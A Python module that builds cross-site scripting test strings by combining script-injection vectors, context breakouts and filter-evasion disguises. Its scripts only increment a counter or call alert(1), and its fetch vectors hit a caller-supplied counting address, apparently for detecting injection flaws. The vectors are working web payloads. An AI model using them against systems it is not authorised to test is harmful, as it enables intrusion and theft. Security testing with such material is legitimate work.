"""Texts that would run scripts, or fetch something, in a page that took them for markup. Made by combination: what
runs, what it breaks out of, and how it is disguised."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

__all__ = ["payloads"]

RUN = "top.__ran=(top.__ran||0)+1"
ASK = f"{RUN};alert(1)"

VECTORS = (
    "<script>{js}</script>",
    "<img src=x onerror={js}>",
    "<svg onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<details open ontoggle={js}>x</details>",
    "<input autofocus onfocus={js}>",
    "<textarea autofocus onfocus={js}></textarea>",
    "<video><source onerror={js}></video>",
    "<audio src=x onerror={js}>",
    "<body onload={js} onpageshow={js}>",
    "<marquee onstart={js}>x</marquee>",
    "<iframe srcdoc='<script>{js}</script>'></iframe>",
    "<iframe src='javascript:{js}'></iframe>",
    "<object data='javascript:{js}'></object>",
    "<math><mtext><table><mglyph><style><img src=x onerror={js}></style></mglyph></table></mtext></math>",
    "<a href='javascript:{js}' autofocus onfocus={js}>x</a>",
    "<form action='javascript:{js}'><button autofocus onfocus={js}>x</button></form>",
    "<style>@import '{out}';</style>",
    "<link rel=stylesheet href='{out}'>",
    "<img src='{out}' srcset='{out} 2x'>",
    "<video poster='{out}' src='{out}' autoplay></video>",
    "<base href='{out}'><script src=x></script>",
    "<meta http-equiv=refresh content='0;url={out}'>",
    "<div style='background:url({out})'>x</div>",
    "<template shadowrootmode=open><img src=x onerror={js}></template>",
    "{{{{constructor.constructor('{js}')()}}}}",
    "${{{js}}}",
    "javascript:{js}",
    "'-({js})-'",
)
BREAKS = (
    "", '">', "'>", "</script>", "</textarea>", "</title></style>", "-->", "]]>", "</p></li></ol>", '\\"', "\n\n", "`"
)  # fmt: skip
DISGUISES = ("plain", "case", "entities", "slashes", "nul", "halves")


def payloads(count: int, out: str) -> Iterator[str]:
    """Yield so many different ones, spread evenly over all combinations; each begins with its number.

    Args:
        out: The beginning of an address that counts whoever fetches from it.
    """
    everything = list(product(VECTORS, BREAKS, DISGUISES))
    stride = 1 + 2 * 3 * 5 * 7  # without a factor in common with their number: no combination comes twice
    for number in range(count):
        vector, broken, disguise = everything[number * stride % len(everything)]
        script = ASK if number % 7 == 0 else RUN
        text = vector.format(js=script, out=f"{out}{number}")
        yield f"n{number}n{broken}{_disguised(text, disguise)}"


def _disguised(text: str, how: str) -> str:
    if how == "case":  # names of tags and attributes know no case; the script does
        return "".join(c.upper() if i % 2 else c for i, c in enumerate(text[:7])) + text[7:]
    if how == "entities":
        return (
            text.replace("<", "&lt;").replace("(", "&#40;")
            if text.count("<") % 2
            else text.replace("=", "&#x3d;", 1)
        )
    if how == "slashes":
        return text.replace(" ", "/", 1)
    if how == "nul":
        return text.replace(" ", "\t\x0b \x00", 1)
    if how == "halves":  # cut off, so that it takes what follows for its own
        return text[: len(text) - 1]
    return text
